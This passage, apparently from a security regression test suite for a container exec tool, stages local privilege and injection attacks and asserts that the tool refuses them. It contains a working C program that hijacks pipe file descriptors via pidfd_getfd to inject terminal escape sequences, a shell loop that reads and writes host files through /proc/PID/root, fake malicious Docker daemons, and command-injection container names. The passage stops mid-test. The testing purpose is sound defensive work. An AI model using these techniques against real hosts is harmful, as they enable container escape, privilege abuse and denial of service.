// pod's to choose. CRI-O is not packaged for Debian 12: its state is written as in
// k8s_test's CRI-O fixture, around real processes in root-made crio-ID.scope cgroups.

Deno.test({
  name:
    "stop 21: a CRI-O pod whose annotations call its sandbox another pod's container is never taken for that pod's",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    const tag = Math.random().toString(36).slice(2, 7);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-crio-sec-" });
    const hex = () =>
      [...crypto.getRandomValues(new Uint8Array(32))]
        .map((b) => b.toString(16).padStart(2, "0")).join("");
    const victim = { sandbox: hex(), app: hex(), uid: crypto.randomUUID(), name: `dns-${tag}` };
    const attacker = { sandbox: hex(), uid: crypto.randomUUID(), name: `x-${tag}` };
    const targets = await Promise.all([makeTarget(), makeTarget(), makeTarget()]);
    const parent = `/sys/fs/cgroup/pids/nsjoin-crio-sec-${tag}`;
    const cgroups: string[] = [];
    const list: { id: string; names: string[] }[] = [];
    const write = async (
      id: string,
      pid: number,
      who: string,
      annotations: Record<string, string>,
    ) => {
      list.push({ id, names: [`k8s_${id.slice(0, 8)}_${tag}`] });
      await Deno.mkdir(`${dir}/graph/overlay-containers/${id}/userdata`, { recursive: true });
      await Deno.mkdir(`${dir}/run/overlay-containers/${id}/userdata`, { recursive: true });
      await Deno.writeTextFile(`${dir}/run/overlay-containers/${id}/userdata/pidfile`, String(pid));
      await Deno.writeTextFile(
        `${dir}/graph/overlay-containers/${id}/userdata/config.json`,
        JSON.stringify({
          process: {
            cwd: "/",
            env: ["PATH=/usr/bin:/bin", `WHO=${who}`],
            user: { uid: 0, gid: 0 },
          },
          annotations,
        }),
      );
      const cg = `${parent}/crio-${id}.scope`;
      await Deno.mkdir(cg, { recursive: true });
      cgroups.push(cg);
      await Deno.writeTextFile(`${cg}/cgroup.procs`, String(pid));
      await Deno.writeTextFile(
        `${dir}/graph/overlay-containers/containers.json`,
        JSON.stringify(list),
      );
    };
    // What CRI-O writes for a pod, in its order: its own keys, the pod's annotations, the
    // labels (the kubelet's io.kubernetes.pod.*, and "POD" as a sandbox's container name).
    const crio = (
      pod: { sandbox: string; uid: string; name: string },
      namespace: string,
      id: string,
      container: string,
      podAnnotations: Record<string, string>,
    ) => ({
      "io.container.manager": "cri-o",
      "io.kubernetes.cri-o.ContainerType": container === "POD" ? "sandbox" : "container",
      "io.kubernetes.cri-o.SandboxID": pod.sandbox,
      "io.kubernetes.cri-o.ContainerID": id,
      "io.kubernetes.cri-o.Annotations": JSON.stringify(podAnnotations),
      ...podAnnotations,
      "io.kubernetes.pod.name": pod.name,
      "io.kubernetes.pod.namespace": namespace,
      "io.kubernetes.pod.uid": pod.uid,
      "io.kubernetes.container.name": container,
    });
    try {
      await Deno.writeTextFile(
        `${dir}/storage.conf`,
        `[storage]\ndriver = "overlay"\ngraphroot = "${dir}/graph"\nrunroot = "${dir}/run"\n`,
      );
      await write(
        victim.sandbox,
        targets[0].pid,
        "victim-sandbox",
        crio(victim, "kube-system", victim.sandbox, "POD", {}),
      );
      await write(
        victim.app,
        targets[1].pid,
        "victim",
        crio(victim, "kube-system", victim.app, "app", {}),
      );
      // A user's pod in a namespace of their own, annotated (metadata.annotations) so.
      await write(
        attacker.sandbox,
        targets[2].pid,
        "attacker",
        crio(attacker, "evil", attacker.sandbox, "POD", {
          "io.kubernetes.cri-o.ContainerType": "container",
          "io.kubernetes.cri-o.SandboxID": victim.sandbox,
        }),
      );
      const env = { CONTAINERS_STORAGE_CONF: `${dir}/storage.conf` };
      const exec = (target: string) => _cli(["exec", target, "sh", "-c", "echo $WHO"], env);
      // Before, the attacker's sandbox was a container "POD" of the victim's pod: root's exec
      // of that pod found two containers (refused as ambiguous), and while the victim's own
      // container was not running (restarting) it ran in the attacker's sandbox.
      await t.step("root's exec of the victim pod runs in its container", async () => {
        const r = await exec(`k8s:kube-system/${victim.name}`);
        assertEquals([r.code, r.stdout, r.stderr], [0, "victim\n", ""]);
      });
      await t.step("ps lists the attacker's sandbox as its own pod's", async () => {
        const ps = await _cli(["ps", "--json"], env);
        const row = (JSON.parse(ps.stdout) as {
          id: string;
          pod: { namespace: string; name: string; container: string | null } | null;
        }[]).find((r) => r.id === attacker.sandbox);
        assertEquals(row?.pod && [row.pod.namespace, row.pod.name, row.pod.container], [
          "evil",
          attacker.name,
          null,
        ], ps.stdout);
      });
      await t.step("with the victim's container gone, root's exec runs nowhere", async () => {
        list.splice(list.findIndex((c) => c.id === victim.app), 1);
        await Deno.writeTextFile(
          `${dir}/graph/overlay-containers/containers.json`,
          JSON.stringify(list),
        );
        const r = await exec(`k8s:kube-system/${victim.name}`);
        assertEquals(r.stdout, "", "root's exec ran in the attacker's sandbox");
        assertEquals(r.code, 125, r.stderr);
        assertMatch(r.stderr, /has no running container/);
      });
    } finally {
      for (const target of targets) await target.kill();
      for (const cg of cgroups) await Deno.remove(cg).catch(() => {});
      await Deno.remove(parent).catch(() => {});
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 21: a failure record a target forges on the helper's private pipe
// The program's process holds the caller's error pipe (close-on-exec) from its birth in the
// target's pid namespace until execve (left in stop 18: a pipe names no process), so a task
// there with CAP_SYS_PTRACE takes it and writes a record of its own. The caller reads it as
// the helper's, whose lines escape what others chose; `exec -d` printed its message as it
// was, so the target's bytes reached root's terminal: ESC and C1 sequences.

/**
 * In a pid namespace whose init holds CAP_SYS_PTRACE alone: for every new process (from
 * ns_last_pid) it takes fds 3-63 with pidfd_getfd and writes into each writable FIFO among
 * them (the caller's error pipe, before execve) a failure record whose message holds ESC,
 * BEL and C1 controls (as UTF-8). SIGTERM ends it; it prints counts.
 */
const RECORD_FORGER_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
int main(void) {
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, 0);
  signal(SIGPIPE, SIG_IGN);
  static const char rec[] = "125 1 open - forged \x1b]0;owned\x07 \x1b[2J \xc2\x9b" "31m\n";
  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  long last = -1, writes = 0;
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    char b[32];
    ssize_t n = pread(lp, b, sizeof b - 1, 0);
    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
    if (last < 0) last = now;
    for (long pid = last + 1; pid <= now; pid++) {
      int pfd = -1;
      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
      if (pfd < 0) continue;
      /* Its open fds, whatever their numbers (a caller with many fds open hands the
         helper a pipe numbered above 63). */
      char dir[64];
      snprintf(dir, sizeof dir, "/proc/%ld/fd", pid);
      DIR *d = opendir(dir);
      for (struct dirent *e; d && (e = readdir(d));) {
        int fd = atoi(e->d_name);
        if (fd < 3) continue;
        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (g < 0) continue;
        struct stat st;
        if (fstat(g, &st) == 0 && S_ISFIFO(st.st_mode) && (fcntl(g, F_GETFL) & O_ACCMODE) == O_WRONLY &&
            write(g, rec, sizeof rec - 1) > 0)
          writes++;
        close(g);
      }
      if (d) closedir(d);
      close(pfd);
    }
    last = now;
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("{\"writes\":%ld}\n", writes);
  fflush(stdout);
  return 0;
}
`;

Deno.test({
  name:
    "stop 21: a failure record a CAP_SYS_PTRACE target writes on the error pipe reaches no terminal raw",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-forger-" });
    try {
      await Deno.writeTextFile(`${dir}/forger.c`, RECORD_FORGER_C);
      const cc = await new Deno.Command("gcc", {
        args: ["-static", "-O2", "-o", `${dir}/forger`, `${dir}/forger.c`],
        stderr: "piped",
      }).output();
      assert(cc.success, text(cc.stderr));
      const target = new Deno.Command("unshare", {
        args: ["-p", "--fork", "--mount-proc", "setpriv", "--bounding-set=-all,+sys_ptrace"]
          .concat(["--inh-caps=-all", `${dir}/forger`]),
        stdin: "null",
        stdout: "piped",
        stderr: "inherit",
      }).spawn();
      const reader = target.stdout.pipeThrough(new TextDecoderStream()).getReader();
      let out = "";
      while (!out.includes("ready\n")) {
        const { value, done } = await reader.read();
        if (done) throw new Error("the forger did not start");
        out += value;
      }
      const pid = Number(Deno.readTextFileSync(`/proc/${target.pid}/task/${target.pid}/children`));
      // deno-lint-ignore no-control-regex -- a control byte reaching the terminal is the attack
      const control = /[\x00-\x1f\x7f-\x9f]/u;
      let forged = 0;
      try {
        await t.step("the library's setupError", async () => {
          for (let i = 0; i < 40; i++) {
            // Exiting 125 itself: a record is taken only with its code (stop 22).
            const run = await new NsCommand("sh", {
              target: pid,
              args: ["-c", "exit 125"],
              capabilities: "target",
              newSession: true,
              stdin: "null",
              stdout: "piped",
              stderr: "piped",
            }).output();
            // The program ran: its exit code is its own.
            assertEquals(run.code, 125, text(run.stderr));
            const message = run.setupError?.message ?? "";
            if (message.includes("forged")) forged++;
            assert(!control.test(message), JSON.stringify(message));
          }
          // The attack was live: a forged record was read.
          assert(forged > 0, JSON.stringify({ forged }));
        });
        await t.step("exec -d's line", async () => {
          let shown = 0;
          for (let i = 0; i < 15 && shown === 0; i++) {
            const r = await _cli(["exec", "-d", String(pid), "sh", "-c", "exit 125"], {});
            if (r.stderr.includes("forged")) shown++;
            assert(!control.test(r.stderr.replace(/\n$/, "")), JSON.stringify(r.stderr));
          }
          assert(shown > 0, "exec -d never printed the forged record");
        });
      } finally {
        Deno.kill(pid, "SIGTERM");
      }
      for (let r = await reader.read(); !r.done; r = await reader.read()) out += r.value;
      await target.status;
      console.log(out.trim().split("\n").pop(), JSON.stringify({ forged }));
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 21: a host program in a container's pid namespace
// exec without the mount namespace runs a host program: its root and working directory are
// the host's. In the target's pid namespace the container's processes see it, and with the
// container's uid and capabilities (what exec gives it) ptrace_may_access lets them follow
// its /proc/PID/root: the host's whole file system, with the container root's
// CAP_DAC_OVERRIDE (docker's default), read and written. A pid namespace FILE runs it with
// every capability of ours, which a container with CAP_SYS_PTRACE reaches the same way.

Deno.test({
  name:
    "stop 21: exec never puts a host program in a container's pid namespace, where its root follows /proc/PID/root to our files",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    await dockerImage();
    const tag = Math.random().toString(36).slice(2, 8);
    // A file only root may read, and a path no one has written yet.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-hostroot-" });
    await Deno.chmod(dir, 0o700);
    const secret = `s3cr3t-${tag}`;
    await Deno.writeTextFile(`${dir}/secret`, secret, { mode: 0o600 });
    const containers: Awaited<ReturnType<typeof startContainer>>[] = [];
    // In the container: for every process whose argv is `/bin/sleep NAP`, read the secret
    // and write a file through its /proc/PID/root.
    const reach = (c: Awaited<ReturnType<typeof startContainer>>, nap: string) =>
      engineExec(c, [], [
        "sh",
        "-c",
        `for f in /proc/[0-9]*/cmdline; do grep -q ${nap} $f 2>/dev/null || continue; r=\${f%cmdline}root;` +
        ` cat $r${dir}/secret; touch $r${dir}/written; done; true`,
      ]);
    const run = (args: string[], nap: string) =>
      runPiped(Deno.execPath(), {
        args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", "-d", ...args, "/bin/sleep", nap],
      });
    try {
      await t.step("exec -n pid,net of a docker container (its default capabilities)", async () => {
        const c = await startContainer("docker", `nsjoin-hostroot-${tag}`);
        containers.push(c);
        const nap = `${Math.floor(Math.random() * 1000) + 100}.5`;
        const started = await run(["-n", "pid,net", c.name], nap);
        if (started.code === 0) {
          const program = await processWithArgv(["/bin/sleep", nap]);
          try {
            const r = await reach(c, nap);
            assert(!r.stdout.includes(secret), "the container read a host file");
          } finally {
            Deno.kill(program, "SIGKILL");
          }
        }
        assert(!existsSync(`${dir}/written`), "the container wrote a host file");
        assertEquals(started.code, 2, started.stderr);
        assertMatch(started.stderr, /without its mnt namespace/);
      });
      await t.step("exec of its pid namespace file (docker --cap-add SYS_PTRACE)", async () => {
        const c = await startContainer("docker", `nsjoin-hostroot-p-${tag}`, [
          "--cap-add",
          "SYS_PTRACE",
        ]);
        containers.push(c);
        const pid = Number(
          (await must("docker", ["inspect", "-f", "{{.State.Pid}}", c.name])).trim(),
        );
        const nap = `${Math.floor(Math.random() * 1000) + 100}.5`;
        const started = await run([`/proc/${pid}/ns/pid`], nap);
        if (started.code === 0) {
          const program = await processWithArgv(["/bin/sleep", nap]);
          try {
            const r = await reach(c, nap);
            assert(!r.stdout.includes(secret), "the container read a host file");
          } finally {
            Deno.kill(program, "SIGKILL");
          }
        }
        assert(!existsSync(`${dir}/written`), "the container wrote a host file");
        assertEquals(started.code, 2, started.stderr);
        assertMatch(started.stderr, /pid namespace/);
      });
      await t.step(
        "exec -n net of a --pid=host container (the program in its pid namespace)",
        async () => {
          const c = await startContainer("docker", `nsjoin-hostroot-h-${tag}`, ["--pid=host"]);
          containers.push(c);
          const nap = `${Math.floor(Math.random() * 1000) + 100}.5`;
          const started = await run(["-n", "net", c.name], nap);
          assertEquals(started.code, 0, started.stderr);
          const program = await processWithArgv(["/bin/sleep", nap]);
          try {
            const r = await reach(c, nap);
            assert(!r.stdout.includes(secret), "the container read a host file");
            assert(!existsSync(`${dir}/written`), "the container wrote a host file");
            // It still runs in the container's network namespace, with our capabilities.
            assertEquals(
              Deno.readLinkSync(`/proc/${program}/ns/net`),
              Deno.readLinkSync(
                `/proc/${
                  (await must("docker", ["inspect", "-f", "{{.State.Pid}}", c.name])).trim()
                }/ns/net`,
              ),
            );
          } finally {
            Deno.kill(program, "SIGKILL");
          }
          // daxIn of the container's PID: the same host program.
          const { daxIn } = await import("../dax.ts");
          const pid = Number(
            (await must("docker", ["inspect", "-f", "{{.State.Pid}}", c.name])).trim(),
          );
          const $ = daxIn(pid, { namespaces: ["net"], commands: ["sleep"] });
          const nap2 = `${Math.floor(Math.random() * 1000) + 100}.5`;
          const running = (async () => await $`sleep ${nap2}`.noThrow())();
          const program2 = await processWithArgv(["sleep", nap2]);
          try {
            const r = await reach(c, nap2);
            assert(!r.stdout.includes(secret), "the container read a host file (daxIn)");
            assert(!existsSync(`${dir}/written`), "the container wrote a host file (daxIn)");
          } finally {
            Deno.kill(program2, "SIGKILL");
            await running;
          }
        },
      );
      await t.step("containerExecOptions and daxIn refuse it too", async () => {
        await using web = await resolveContainer(`docker:${containers[0].name}`);
        assertThrows(
          () => containerExecOptions(web, { namespaces: ["pid", "net"] }),
          TypeError,
          "without its mnt namespace",
        );
        const { daxIn } = await import("../dax.ts");
        await using target = await makeTarget();
        assertThrows(
          () => daxIn(target.pid, { namespaces: ["pid", "net"] }),
          TypeError,
          "without its mnt namespace",
        );
      });
      await t.step("with its mnt namespace the program is the container's", async () => {
        const r = await _cli([
          "exec",
          "-n",
          "pid,net,mnt",
          containers[0].name,
          "cat",
          `${dir}/secret`,
        ], {});
        assert(!r.stdout.includes(secret), r.stdout);
        assertEquals(r.code, 1, r.stderr);
      });
    } finally {
      await removeContainers(containers);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

function existsSync(path: string): boolean {
  try {
    Deno.lstatSync(path);
    return true;
  } catch {
    return false;
  }
}

// ---- stop 21: a local user's rootless container named after root's stopped one

Deno.test({
  name:
    "stop 21: a user's rootless container named after root's stopped container never receives root's exec",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // Other users' rootless containers are searched only when no running container of
    // root's engines matches a name: while root's is stopped (or restarting, or its daemon
    // down), a local user who named theirs the same got root's exec — its -e values, its
    // arguments and stdin, and output root took for its own container's.
    const owner = podmanUser();
    if (!owner) throw new Error("tests/setup.sh did not create the rootless podman user");
    await ensureImages(owner);
    const name = `nsjoin-sec21-${crypto.randomUUID().slice(0, 8)}`;
    const made: Awaited<ReturnType<typeof startContainer>>[] = [];
    const exec = (target: string) =>
      runPiped(Deno.execPath(), {
        args: [
          ...["run", "-A", "--quiet", CLI, "exec", "-e", "TOKEN=t0k3n", target],
          ...["sh", "-c", "echo ran $TOKEN in $(hostname)"],
        ],
      });
    try {
      // Root's: a podman container and a docker container, made and never started.
      const id = (await must("podman", ["create", "--name", name, IMAGE, "true"])).trim();
      await must("docker", ["create", "--name", `${name}-d`, IMAGE, "true"]);
      // The user's, running, named after each (and one after root's podman ID prefix).
      for (const n of [name, `${name}-d`, id.slice(0, 12)]) {
        made.push(await startContainer("podman", n, [], owner));
      }
      for (
        const [target, refusal] of [
          [name, `podman container ${name}`],
          [`podman:${name}`, `podman container ${name}`],
          [`${name}-d`, `docker container ${name}-d`],
          [id.slice(0, 12), `podman container ${name}`],
        ]
      ) {
        await t.step(`exec ${target}`, async () => {
          const out = await exec(target);
          assert(!out.stdout.includes("ran"), `ran in the user's container: ${out.stdout}`);
          assertEquals(out.code, 125, out.stderr);
          assertMatch(out.stderr, new RegExp(`Cannot use ${refusal}.* not running`));
        });
      }
      await t.step("podman@USER:NAME still names the user's", async () => {
        const out = await exec(`podman@${owner.name}:${name}`);
        assertEquals(out.stdout, `ran t0k3n in h-${name}\n`, out.stderr);
      });
    } finally {
      await removeContainers(made);
      await run("podman", ["rm", "-f", name]);
      await run("docker", ["rm", "-f", `${name}-d`]);
    }
  },
});

// ---- stop 21: DOCKER_HOST naming a daemon a local user runs

/** A fake Docker API: every inspect answers `web`, with the PID in `pidfile` and `env`. */
const FAKE_DOCKERD_TS = String.raw`
const [sock, pidfile, env] = Deno.args;
const server = Deno.listen({ transport: "unix", path: sock });
console.log("ready");
for await (const conn of server) {
  await conn.read(new Uint8Array(4096));
  const pid = Number(Deno.readTextFileSync(pidfile));
  const body = JSON.stringify({
    Id: "e".repeat(64),
    Name: "/web",
    State: { Running: true, Pid: pid },
    Config: { Env: [env], User: "", WorkingDir: "" },
  });
  await conn.write(new TextEncoder().encode("HTTP/1.0 200 OK\r\n\r\n" + body));
  conn.close();
}
`;

Deno.test({
  name:
    "stop 21: a docker daemon a local user runs names only that user's containers (DOCKER_HOST)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // Root may point DOCKER_HOST at a user's rootless dockerd (or a sudo-like wrapper
    // passes the user's through). Its answers are the user's to write: a State.Pid of a
    // root process in a mount namespace of its own over our root (a service's PrivateTmp)
    // passed the "not our mount namespace" check, and its Config.Env PATH, naming the
    // user's directory, chose the program root's exec ran there as uid 0.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-userdockerd-" });
    await Deno.chown(dir, user.uid, user.gid);
    const planted = `${dir}/bin`;
    await Deno.mkdir(planted);
    await Deno.writeTextFile(`${planted}/id`, "#!/bin/sh\necho planted ran as $(/usr/bin/id -u)\n");
    await Deno.chmod(`${planted}/id`, 0o755);
    await Deno.chown(planted, user.uid, user.gid);
    await Deno.chown(`${planted}/id`, user.uid, user.gid);
    await Deno.writeTextFile(`${dir}/fake.ts`, FAKE_DOCKERD_TS);
    await Deno.writeTextFile(`${dir}/pid`, "1");
    await Deno.chown(`${dir}/pid`, user.uid, user.gid);
    const sock = `${dir}/docker.sock`;
    await using service = await makeTarget({ flags: ["-m"] });
    // As rootlesskit maps them: the user's subordinate ids too (setgroups allowed).
    await using theirs = await makeTarget({
      flags: ["--user", "--map-root-user", "--map-auto", "--mount"],
      user,
    });
    const { deno, denoDir } = userDeno();
    const daemon = new Deno.Command("setpriv", {
      args: [
        ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", deno, "run", "-A"],
        ...["--quiet", "--no-config", "--no-lock", `${dir}/fake.ts`, sock, `${dir}/pid`],
        `PATH=${planted}:/usr/bin:/bin`,
      ],
      env: { DENO_DIR: denoDir },
      stdin: "null",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    try {
      const reader = daemon.stdout.getReader();
      const ready = text((await reader.read()).value ?? new Uint8Array()).trim();
      reader.releaseLock();
      daemon.stdout.cancel().catch(() => {});
      if (ready !== "ready") {
        const err = await new Response(daemon.stderr).text();
        throw new Error(`the fake daemon did not start: ${err}`);
      }
      daemon.stderr.cancel().catch(() => {});
      const exec = (target: string) =>
        runPiped(Deno.execPath(), {
          args: ["run", "-A", "--quiet", CLI, "exec", target, "id"],
          env: { DOCKER_HOST: `unix://${sock}` },
        });
      await t.step("a root process with a mount namespace of its own: refused", async () => {
        await Deno.writeTextFile(`${dir}/pid`, String(service.pid));
        for (const target of ["docker:web", "web"]) {
          const out = await exec(target);
          assert(!out.stdout.includes("planted"), `the user's program ran: ${out.stdout}`);
          assertEquals(out.code, 125, out.stderr);
          assertMatch(out.stderr, /Cannot use docker@\d+:web .* no longer in its owner's/);
        }
      });
      await t.step("the user's own namespaces (a rootless container): joined", async () => {
        await Deno.writeTextFile(`${dir}/pid`, String(theirs.pid));
        const out = await exec("docker:web");
        // Their program, with their uid: root in their user namespace.
        assertEquals(out.stdout, "planted ran as 0\n", out.stderr);
        const map = await runPiped(Deno.execPath(), {
          args: ["run", "-A", "--quiet", CLI, "exec", "docker:web", "cat", "/proc/self/uid_map"],
          env: { DOCKER_HOST: `unix://${sock}` },
        });
        assertMatch(map.stdout, new RegExp(`^\\s*0\\s+${user.uid}\\s+1\\n`), map.stderr);
      });
    } finally {
      try {
        daemon.kill("SIGKILL");
      } catch {
        // It exited already (and said why).
      }
      await daemon.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 21: the size of a local user's podman store

Deno.test({
  name: "stop 21: a local user's podman store never keeps root's ps (or exec NAME) waiting",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // ps, and exec of a bare name, read every user's rootless store: each entry of a
    // containers.json costs a few lookups. 260,000 IDs in one file under the 4 MiB cap
    // took 20 s, and the user may make as many `X-containers` directories as they like,
    // each a hard link of that file.
    await using user = await hostileUser();
    const ids = Array.from({ length: 260000 }, (_, i) => ({ id: i.toString(16) }));
    const first = `${user.home}/g/vfs-containers`;
    await Deno.mkdir(first, { recursive: true });
    await Deno.writeTextFile(`${first}/containers.json`, JSON.stringify(ids));
    for (const d of ["overlay", "btrfs", "zfs", ...Array.from({ length: 30 }, (_, i) => `x${i}`)]) {
      await Deno.mkdir(`${user.home}/g/${d}-containers`);
      await Deno.link(`${first}/containers.json`, `${user.home}/g/${d}-containers/containers.json`);
    }
    await sh("chown", ["-R", `${user.uid}:${user.gid}`, user.home]);
    const ps = await cliBounded(["ps", "--json"], 60_000);
    assert(!ps.killed, "root's ps was still reading the user's store at 60 s");
    assertEquals(ps.code, 0, ps.stderr);
  },
});

// ---- stop 21: the size of a docker daemon's answer

/** A fake Docker API that answers every request with 256 MiB of JSON, then never closes. */
const ENDLESS_DOCKERD_TS = String.raw`
const server = Deno.listen({ transport: "unix", path: Deno.args[0] });
console.log("ready");
for await (const conn of server) {
  (async () => {
    await conn.read(new Uint8Array(4096));
    const w = conn.writable.getWriter();
    await w.write(new TextEncoder().encode("HTTP/1.0 200 OK\r\n\r\n["));
    const chunk = new TextEncoder().encode('"x",'.repeat(1 << 18));
    for (let i = 0; i < 256; i++) await w.write(chunk);
    await new Promise(() => {});
  })().catch(() => {});
}
`;

Deno.test({
  name: "stop 21: a docker daemon that never stops answering never fills root's memory",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // Every answer of the Docker API was read whole into one string: a user's daemon
    // (DOCKER_HOST naming their socket) that keeps writing had root's exec grow until the
    // OOM killer came (here 256 MiB, then it waits for more: killed at 60 s).
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-endlessdockerd-" });
    await Deno.chown(dir, user.uid, user.gid);
    await Deno.writeTextFile(`${dir}/fake.ts`, ENDLESS_DOCKERD_TS);
    const sock = `${dir}/docker.sock`;
    const { deno, denoDir } = userDeno();
    const daemon = new Deno.Command("setpriv", {
      args: [
        ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", deno, "run", "-A"],
        ...["--quiet", "--no-config", "--no-lock", `${dir}/fake.ts`, sock],
      ],
      env: { DENO_DIR: denoDir },
      stdin: "null",
      stdout: "piped",
      stderr: "inherit",
    }).spawn();
    try {
      const reader = daemon.stdout.getReader();
      assertEquals(text((await reader.read()).value ?? new Uint8Array()).trim(), "ready");
      reader.releaseLock();
      daemon.stdout.cancel().catch(() => {});
      const exec = new Deno.Command(Deno.execPath(), {
        args: ["run", "-A", "--quiet", CLI, "exec", "docker:web", "true"],
        env: { DOCKER_HOST: `unix://${sock}` },
        stdin: "null",
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      const timer = setTimeout(() => exec.kill("SIGKILL"), 60_000);
      const out = await exec.output();
      clearTimeout(timer);
      assertEquals(out.signal, null, "root's exec was still reading the daemon's answer at 60 s");
      assertEquals(out.code, 125, text(out.stderr));
    } finally {
      try {
        daemon.kill("SIGKILL");
      } catch {
        // It exited already.
      }
      await daemon.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 21: completion of container names

/**
 * The completion scripts complete a TARGET with the names `nsjoin ps --json` lists — names
 * a rootless user writes into their own engine state, so any text. A shell that expands
 * them (bash's `compgen -W` runs `$(…)` and backquotes in its words) would run that text as
 * the user pressing TAB: root. A stand-in `nsjoin` on PATH lists such names beside one real
 * name; each shell must offer the real one only and run nothing.
 */
Deno.test({
  name:
    "stop 21: shell completion never runs a container name, nor offers one no engine could make",
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-compl-" });
    try {
      const mark = `${dir}/ran`;
      const hostile = [`$(touch ${mark})`, `\`touch ${mark}\``, `x;touch ${mark}`, "a b"];
      const names = ["web-1", ...hostile];
      // Laid out as ps --json lays it out.
      const json = JSON.stringify(
        names.map((name) => ({ engine: "podman", name, pid: 1 })),
        null,
        2,
      );
      await Deno.writeTextFile(`${dir}/ps.json`, json + "\n");
      await Deno.writeTextFile(
        `${dir}/nsjoin`,
        `#!/bin/sh\n[ "$1 $2" = "ps --json" ] && exec cat ${dir}/ps.json\nexit 2\n`,
      );
      await Deno.chmod(`${dir}/nsjoin`, 0o755);
      const env = { PATH: `${dir}:${Deno.env.get("PATH")}` };
      const script = async (shell: string) =>
        (await runPiped(Deno.execPath(), {
          args: ["run", "--quiet", "--no-lock", CLI, "completions", shell],
        })).stdout;
      const shells: [string, string[]][] = [
        ["bash", [
          "-c",
          `eval "$S"; COMP_WORDS=(nsjoin exec ''); COMP_CWORD=2; _nsjoin; printf '%s\\n' "\${COMPREPLY[@]}"`,
        ]],
        ["zsh", [
          "-c",
          `autoload -U compinit; compinit -u -D; eval "$S"; compadd() { print -l -- "\${@[2,-1]}"; }; ` +
          `words=(nsjoin exec ''); CURRENT=3; _nsjoin`,
        ]],
        ["fish", ["-c", `eval "$S"; complete -C 'nsjoin exec '`]],
      ];
      for (const [shell, args] of shells) {
        await t.step(shell, async () => {
          const out = await runPiped(shell, { args, env: { ...env, S: await script(shell) } });
          assertEquals(out.stdout.split("\n").filter(Boolean), ["web-1"], out.stderr);
          assert(!existsSync(mark), `${shell} ran a container name`);
        });
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

/**
 * Deno 2.9.2+ opens an unauthenticated V8 inspector on the host's 127.0.0.1:9229 when it
 * gets SIGUSR1. A container sharing the host's pid namespace runs as our uid (root) and may
 * signal the Deno that relays `exec -t` beside its program; then any local user, or that
 * container with the host's network, evaluates code in it: root, with -A. nsjoin starts
 * the inspector first in a network namespace of its own (ffi/inspector.ts), so SIGUSR1
 * does nothing.
 */
Deno.test({
  name: "stop 21: SIGUSR1 from a --pid=host container opens no inspector on the host's loopback",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const name = `nsjsec21-${crypto.randomUUID().slice(0, 8)}`;
    const made = [await startContainer("docker", name)];
    try {
      const relay = new Deno.Command(Deno.execPath(), {
        // Not --quiet, as the installed nsjoin runs: the inspector's banner is dropped.
        args: ["run", "-A", "--no-lock", CLI, "exec", "-t", `docker:${name}`]
          .concat(["sh", "-c", "trap '' USR1; echo ready; sleep 20"]),
        stdin: "null",
        stdout: "piped",
        stderr: "piped",
        env: { NO_COLOR: "1" },
      }).spawn();
      const out = relay.stdout.getReader();
      let seen = "";
      while (!seen.includes("ready")) {
        const { value, done } = await out.read();
        if (done) break;
        seen += new TextDecoder().decode(value);
      }
      assertMatch(seen, /ready/);
      // Deno starts listening for SIGUSR1 to open its inspector 0.5 s after it started (the
      // relay's own listener, which passes the signal on, is there before): wait past that,
      // from the process's start time (field 22 of /proc/PID/stat, in clock ticks).
      const ticks = () =>
        Number(Deno.readTextFileSync(`/proc/${relay.pid}/stat`).split(") ")[1].split(" ")[19]);
      const uptime = () => Number(Deno.readTextFileSync("/proc/uptime").split(" ")[0]);
      while (uptime() - ticks() / 100 < 1.5) await new Promise((r) => setTimeout(r, 100));
      const kill = await runPiped("docker", {
        args: ["run", "--rm", "--pid=host", IMAGE, "kill", "-USR1", String(relay.pid)],
      });
      assertEquals(kill.code, 0, kill.stderr);
      const listening = async () =>
        (await runPiped("ss", { args: ["-Hltnp"] })).stdout.split("\n")
          .filter((l) => l.includes(`pid=${relay.pid},`));
      let found: string[] = [];
      for (let i = 0; i < 10 && !found.length; i++) {
        await new Promise((r) => setTimeout(r, 100));
        found = await listening();
      }
      assertEquals(found, [], "the relay listens on the host's network");
